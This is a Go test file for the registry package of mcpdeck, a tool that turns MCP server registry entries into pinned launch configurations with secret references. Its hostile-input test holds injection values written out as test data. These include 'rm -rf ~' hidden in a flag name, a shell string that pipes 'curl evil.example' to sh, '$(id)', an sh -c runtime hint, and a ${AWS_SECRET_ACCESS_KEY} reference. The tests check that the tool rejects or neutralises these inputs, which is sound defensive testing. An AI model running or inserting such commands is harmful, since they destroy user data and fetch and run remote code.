package registry

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"

	"github.com/mcpdeck/mcpdeck/model"
	"github.com/mcpdeck/mcpdeck/testdata/fakeregistry"
)

// fakeEntry decodes the fake registry's document named name.
func fakeEntry(t *testing.T, name string) Entry {
	t.Helper()
	for _, s := range fakeregistry.Servers {
		e, err := decodeEntry(json.RawMessage(s))
		if err != nil {
			t.Fatal(err)
		}
		if e.Name == name {
			return e
		}
	}
	t.Fatalf("no %s in the fake registry", name)
	return Entry{}
}

func entryOf(t *testing.T, doc string) Entry {
	t.Helper()
	e, err := decodeEntry(json.RawMessage(doc))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func build(t *testing.T, e Entry, transport string, values map[string]string, mode SecretMode) (model.ServerConfig, []Secret) {
	t.Helper()
	p, err := NewPlan(e, model.Transport(transport))
	if err != nil {
		t.Fatalf("NewPlan(%s): %v", e.Name, err)
	}
	cfg, secrets, err := p.Build(values, mode)
	if err != nil {
		t.Fatalf("Build(%s): %v", e.Name, err)
	}
	return cfg, secrets
}

// TestBuildEachKind: every kind the fake registry serves becomes the
// definition that runs it pinned (npx NAME@VERSION, uvx NAME==VERSION,
// docker run IMAGE:VERSION, or the remote's URL), with defaults applied and
// secrets as ${secret:NAME} references whose values come back separately.
func TestBuildEachKind(t *testing.T) {
	fs, _ := build(t, fakeEntry(t, "io.github.modelcontextprotocol/server-filesystem"), "", nil, SecretsInStore)
	if fs.Command != "npx" || !reflect.DeepEqual(fs.Args, []string{"-y", "@modelcontextprotocol/server-filesystem@2026.1.14", "/tmp"}) {
		t.Errorf("npm: %+v", fs)
	}

	gh := fakeEntry(t, "io.github.github/github-mcp-server")
	remote, secrets := build(t, gh, "", map[string]string{"header:Authorization": "Bearer ghp_0123456789abcdef"}, SecretsInStore)
	if remote.Type != model.TransportHTTP || remote.URL != "https://api.githubcopilot.com/mcp/" || remote.Headers["Authorization"] != "${secret:AUTHORIZATION}" {
		t.Errorf("remote: %+v", remote)
	}
	if !reflect.DeepEqual(secrets, []Secret{{Name: "AUTHORIZATION", Value: "Bearer ghp_0123456789abcdef", Field: "header Authorization"}}) {
		t.Errorf("remote secrets: %+v", secrets)
	}
	oci, secrets := build(t, gh, "stdio", map[string]string{"env:GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_x"}, SecretsInStore)
	if oci.Command != "docker" || strings.Join(oci.Args, " ") != "run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server:0.24.0" ||
		oci.Env["GITHUB_PERSONAL_ACCESS_TOKEN"] != "${secret:GITHUB_PERSONAL_ACCESS_TOKEN}" || len(secrets) != 1 || secrets[0].Value != "ghp_x" {
		t.Errorf("oci: %+v %+v", oci, secrets)
	}

	weather, secrets := build(t, fakeEntry(t, "io.github.example/weather"), "", nil, SecretsInStore)
	if weather.Command != "uvx" || !reflect.DeepEqual(weather.Args, []string{"mcp-weather==1.2.0"}) ||
		!reflect.DeepEqual(weather.Env, map[string]string{"UNITS": "metric"}) || len(secrets) != 0 {
		t.Errorf("pypi: %+v %+v", weather, secrets)
	}

	every := fakeEntry(t, "io.github.modelcontextprotocol/server-everything")
	cfg, secrets := build(t, every, "", map[string]string{"env:EVERYTHING_TOKEN": "tok-123456"}, SecretsInStore)
	if strings.Join(cfg.Args, " ") != "-y @modelcontextprotocol/server-everything@2026.8.31 stdio" ||
		!reflect.DeepEqual(cfg.Env, map[string]string{"EVERYTHING_TOKEN": "${secret:EVERYTHING_TOKEN}", "EVERYTHING_LABEL": "demo"}) ||
		len(secrets) != 1 || secrets[0].Name != "EVERYTHING_TOKEN" {
		t.Errorf("everything: %+v %+v", cfg, secrets)
	}
	// A value that is a reference to the person's environment stays one.
	cfg, secrets = build(t, every, "", map[string]string{"env:EVERYTHING_TOKEN": "${MY_TOKEN}"}, SecretsInStore)
	if cfg.Env["EVERYTHING_TOKEN"] != "${MY_TOKEN}" || len(secrets) != 0 {
		t.Errorf("a reference: %+v %+v", cfg.Env, secrets)
	}
}

// TestBuildAsksWhatIsMissing: a required field without a value or default
// is named with the flag that gives it; choices and formats are checked.
func TestBuildAsksWhatIsMissing(t *testing.T) {
	p, err := NewPlan(fakeEntry(t, "io.github.modelcontextprotocol/server-everything"), "")
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range p.Fields {
		ids = append(ids, f.ID)
	}
	if strings.Join(ids, " ") != "arg:transport env:EVERYTHING_TOKEN env:EVERYTHING_LABEL sandbox" {
		t.Errorf("fields %v", ids)
	}
	_, _, err = p.Build(nil, SecretsInStore)
	var miss *MissingError
	if !errors.As(err, &miss) || len(miss.Fields) != 1 || !strings.Contains(err.Error(), "env EVERYTHING_TOKEN (give it with -e EVERYTHING_TOKEN='VALUE')") {
		t.Errorf("missing: %v", err)
	}
	if _, _, err := p.Build(map[string]string{"env:EVERYTHING_TOKEN": "x", "arg:transport": "telnet"}, SecretsInStore); err == nil || !strings.Contains(err.Error(), "must be one of stdio, sse, streamableHttp") {
		t.Errorf("a value outside the choices: %v", err)
	}
}

// TestBuildForTheSharedProjectFile: the project's .mcp.json may not use the
// secret store, so a secret becomes a reference to the environment of
// whoever runs it, and a literal secret is refused naming the field.
func TestBuildForTheSharedProjectFile(t *testing.T) {
	gh := fakeEntry(t, "io.github.github/github-mcp-server")
	cfg, secrets := build(t, gh, "", nil, SecretsFromEnv)
	if cfg.Headers["Authorization"] != "${AUTHORIZATION}" || len(secrets) != 0 {
		t.Errorf("%+v %+v", cfg, secrets)
	}
	cfg, _ = build(t, gh, "", map[string]string{"header:Authorization": "Bearer ${GH_TOKEN}"}, SecretsFromEnv)
	if cfg.Headers["Authorization"] != "Bearer ${GH_TOKEN}" {
		t.Errorf("%+v", cfg)
	}
	p, _ := NewPlan(gh, "")
	_, _, err := p.Build(map[string]string{"header:Authorization": "Bearer ghp_literal"}, SecretsFromEnv)
	if !errors.Is(err, ErrSecretInSharedFile) || !strings.Contains(err.Error(), "-H 'Authorization: ${AUTHORIZATION}'") || strings.Contains(err.Error(), "ghp_literal") {
		t.Errorf("a literal secret: %v", err)
	}
	weather, _ := build(t, fakeEntry(t, "io.github.example/weather"), "", nil, SecretsFromEnv)
	if weather.Env["WEATHER_API_KEY"] != "${WEATHER_API_KEY:-}" {
		t.Errorf("an optional secret: %+v", weather.Env)
	}
}

// TestVariablesFillFixedValues: {variables} in fixed values and URLs are
// filled once (a value holding braces is not filled again), unknown braces
// stay, and named and boolean arguments render as flags.
func TestVariablesFillFixedValues(t *testing.T) {
	e := entryOf(t, `{"name":"io.example/db","version":"3.1.0","packages":[{"registryType":"oci","identifier":"example/db","version":"3.1.0",
		"runtimeArguments":[{"type":"named","name":"-e","value":"DB_TYPE={db_type}","variables":{"db_type":{"choices":["postgres","mysql"],"isRequired":true}}},
			{"type":"named","name":"--mount","value":"type=bind,src={src},dst={dst}","variables":{"src":{"format":"filepath","isRequired":true},"dst":{"default":"/project"}}}],
		"packageArguments":[{"type":"named","name":"--port","format":"number"},{"type":"named","name":"--verbose","format":"boolean"},{"type":"positional","value":"{literal}"}],
		"environmentVariables":[{"name":"DB_PASSWORD","isRequired":true,"isSecret":true}]}]}`)
	cfg, secrets := build(t, e, "", map[string]string{
		"var:db_type": "postgres", "var:src": "/home/me/{dst}", "arg:port": "5432", "arg:verbose": "true", "env:DB_PASSWORD": "pw-123456",
	}, SecretsInStore)
	want := "run -i --rm -e DB_TYPE=postgres --mount type=bind,src=/home/me/{dst},dst=/project -e DB_PASSWORD example/db:3.1.0 --port 5432 --verbose {literal}"
	if got := strings.Join(cfg.Args, " "); got != want || len(secrets) != 1 {
		t.Errorf("args\n got %s\nwant %s\n%+v", got, want, secrets)
	}
	p, _ := NewPlan(e, "")
	if _, _, err := p.Build(map[string]string{"var:db_type": "postgres", "var:src": "/x", "arg:port": "many", "env:DB_PASSWORD": "p"}, SecretsInStore); err == nil || !strings.Contains(err.Error(), "must be a number") {
		t.Errorf("a port that is not a number: %v", err)
	}
}

// TestHostileServerJSON: a server.json cannot get mcpdeck to install an
// unpinned version, fetch a package from a path or URL, run a runtime of
// its choosing, put control characters or ${...} references (which would
// read the person's environment) into the definition, or offer a bundle
// without a SHA-256 to check it by; shell metacharacters reach the server as one
// argument each, with no shell in between.
func TestHostileServerJSON(t *testing.T) {
	pkg := func(fields string) string {
		return `{"name":"io.example/evil","version":"1.0.0","packages":[{"transport":{"type":"stdio"},` + fields + `}]}`
	}
	for _, c := range []struct{ name, doc, want string }{
		{"npm latest", pkg(`"registryType":"npm","identifier":"evil","version":"latest"`), `version "latest", not one pinned release`},
		{"npm range", pkg(`"registryType":"npm","identifier":"evil","version":"^1.2.3"`), "not one pinned release"},
		{"npm wildcard", pkg(`"registryType":"npm","identifier":"evil","version":"1.x"`), "not one pinned release"},
		{"npm no version", pkg(`"registryType":"npm","identifier":"evil"`), "has no version"},
		{"oci latest tag", pkg(`"registryType":"oci","identifier":"ghcr.io/evil/x:latest"`), `version "latest"`},
		{"oci untagged", pkg(`"registryType":"oci","identifier":"ghcr.io/evil/x"`), "has no version"},
		{"path", pkg(`"registryType":"npm","identifier":"../../../tmp/evil","version":"1.0.0"`), "not a npm package name"},
		{"file spec", pkg(`"registryType":"npm","identifier":"file:../evil","version":"1.0.0"`), "not a npm package name"},
		{"git spec", pkg(`"registryType":"npm","identifier":"git+https://evil.example/x.git","version":"1.0.0"`), "not a npm package name"},
		{"an npx flag", pkg(`"registryType":"npm","identifier":"--package=evil","version":"1.0.0"`), "not a npm package name"},
		{"pypi path", pkg(`"registryType":"pypi","identifier":"./evil","version":"1.0.0"`), "not a pypi package name"},
		{"oci traversal", pkg(`"registryType":"oci","identifier":"ghcr.io/../x:1.0"`), "not a oci package name"},
		{"env reference in a value", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","environmentVariables":[{"name":"X","value":"${AWS_SECRET_ACCESS_KEY}"}]`), "would read your environment"},
		{"secret reference in a default", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","environmentVariables":[{"name":"X","default":"${secret:TOKEN}"}]`), "would read your environment"},
		{"escape in an argument", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"positional","value":"\u001b]0;pwned\u0007"}]`), "control character"},
		{"invisible operator after a package-like argument", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"positional","value":"@modelcontextprotocol/server-filesystem\u2064"}]`), "control character U+2064"},
		{"Hangul filler in an env value", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","environmentVariables":[{"name":"X","value":"a\u3164b"}]`), "control character U+3164"},
		{"line separator in an argument", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"positional","value":"a\u2028b"}]`), "control character U+2028"},
		{"newline in an env name", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","environmentVariables":[{"name":"A\nB"}]`), "not a valid name"},
		{"flag name", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"named","name":"--x;rm -rf ~"}]`), "not a --flag"},
		{"runtime of its choosing", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","runtimeHint":"sh","runtimeArguments":[{"type":"positional","value":"-c"}]`), "meant to run with sh"},
		{"own port", `{"name":"io.example/evil","version":"1.0.0","packages":[{"registryType":"npm","identifier":"evil","version":"1.0.0","transport":{"type":"streamable-http","url":"http://localhost:8080/mcp"}}]}`, "stdio only"},
		{"bundle", `{"name":"io.example/evil","version":"1.0.0","packages":[{"registryType":"mcpb","identifier":"https://github.com/e/v/releases/download/v1/x.mcpb","fileSha256":"00"}]}`, `the fileSha256 "00", not 64 hexadecimal digits`},
		{"remote file URL", `{"name":"io.example/evil","version":"1.0.0","remotes":[{"type":"sse","url":"file:///etc/passwd"}]}`, "not an absolute URL"},
		{"huge value", pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"positional","value":"` + strings.Repeat("a", maxText+1) + `"}]`), "longer than 4096 bytes"},
		{"nothing", `{"name":"io.example/evil","version":"1.0.0"}`, "neither a package nor a remote"},
	} {
		t.Run(c.name, func(t *testing.T) {
			p, err := NewPlan(entryOf(t, c.doc), "")
			if err == nil {
				_, _, err = p.Build(nil, SecretsInStore)
			}
			if err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("err %v, want %q", err, c.want)
			}
		})
	}

	// Text from the server.json next to a variable cannot form ${...}.
	e := entryOf(t, pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","environmentVariables":[{"name":"X","value":"{a}{HOME}","variables":{"a":{"default":"$"}}}]`))
	p, err := NewPlan(e, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := p.Build(nil, SecretsInStore); err == nil || !strings.Contains(err.Error(), "would read your environment") {
		t.Errorf("a reference put together: %v", err)
	}

	// Shell syntax is one argument, as written.
	e = entryOf(t, pkg(`"registryType":"npm","identifier":"evil","version":"1.0.0","packageArguments":[{"type":"positional","value":"; rm -rf ~ && curl evil.example | sh"},{"type":"positional","value":"$(id)"}]`))
	cfg, _ := build(t, e, "", nil, SecretsInStore)
	if !reflect.DeepEqual(cfg.Args, []string{"-y", "evil@1.0.0", "; rm -rf ~ && curl evil.example | sh", "$(id)"}) {
		t.Errorf("args %q", cfg.Args)
	}
}

func TestLocalName(t *testing.T) {
	for in, want := range map[string]string{
		"io.github.github/github-mcp-server": "github-mcp-server",
		"io.example/weather.v2":              "weather-v2",
		"io.example/../..":                   "server",
		"noslash":                            "noslash",
	} {
		if got := LocalName(in); got != want {
			t.Errorf("LocalName(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRemoteURLVariables: a remote's {variables} are asked for, all
// required, and fill its URL.
func TestRemoteURLVariables(t *testing.T) {
	e := entryOf(t, `{"name":"io.example/tenant","version":"2.0.0","remotes":[{"type":"sse","url":"https://{tenant}.example.com/sse",
		"variables":{"tenant":{"description":"your tenant"}},"headers":[{"name":"X-Region","default":"eu","choices":["eu","us"]}]}]}`)
	p, err := NewPlan(e, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := p.Build(nil, SecretsInStore); err == nil || !strings.Contains(err.Error(), "variable tenant (give it with --arg tenant='VALUE')") {
		t.Errorf("no tenant: %v", err)
	}
	cfg, _ := build(t, e, "", map[string]string{"var:tenant": "acme"}, SecretsInStore)
	if cfg.Type != model.TransportSSE || cfg.URL != "https://acme.example.com/sse" || cfg.Headers["X-Region"] != "eu" {
		t.Errorf("%+v", cfg)
	}
}

// TestNugetRunsWithDnx: a nuget package runs as dnx NAME@VERSION --yes,
// its own arguments after "--".
func TestNugetRunsWithDnx(t *testing.T) {
	e := entryOf(t, `{"name":"io.github.joelverhagen/knapcode-samplemcpserver","version":"0.4.0-beta","packages":[{"registryType":"nuget","identifier":"Knapcode.SampleMcpServer","version":"0.4.0-beta",
		"transport":{"type":"stdio"},"packageArguments":[{"type":"positional","value":"mcp"},{"type":"positional","value":"start"}]}]}`)
	cfg, _ := build(t, e, "", nil, SecretsInStore)
	if cfg.Command != "dnx" || strings.Join(cfg.Args, " ") != "Knapcode.SampleMcpServer@0.4.0-beta --yes -- mcp start" {
		t.Errorf("%+v", cfg)
	}
}

// TestCheckNeverQuotesASecret: a secret value refused for its choices,
// its number format or range, or its boolean format is not repeated in the
// error, which is printed; another field's value is.
func TestCheckNeverQuotesASecret(t *testing.T) {
	lo := 1.0
	for _, f := range []Field{
		{Kind: FieldEnv, Key: "PIN", Input: Input{IsSecret: true, Format: "number", Min: &lo}},
		{Kind: FieldEnv, Key: "MODE", Input: Input{IsSecret: true, Choices: []string{"a", "b"}}},
		{Kind: FieldUserConfig, Key: "flag", Input: Input{IsSecret: true, Format: "boolean"}},
	} {
		for _, v := range []string{"sekrit-value-1", "-5"} {
			err := f.check(v)
			if err == nil || strings.Contains(err.Error(), v) {
				t.Errorf("%s given %q: %v", f.Label(), v, err)
			}
		}
		f.Input.IsSecret = false
		if err := f.check("-5"); err == nil || !strings.Contains(err.Error(), "-5") {
			t.Errorf("%s (not secret) given -5: %v", f.Label(), err)
		}
	}
}
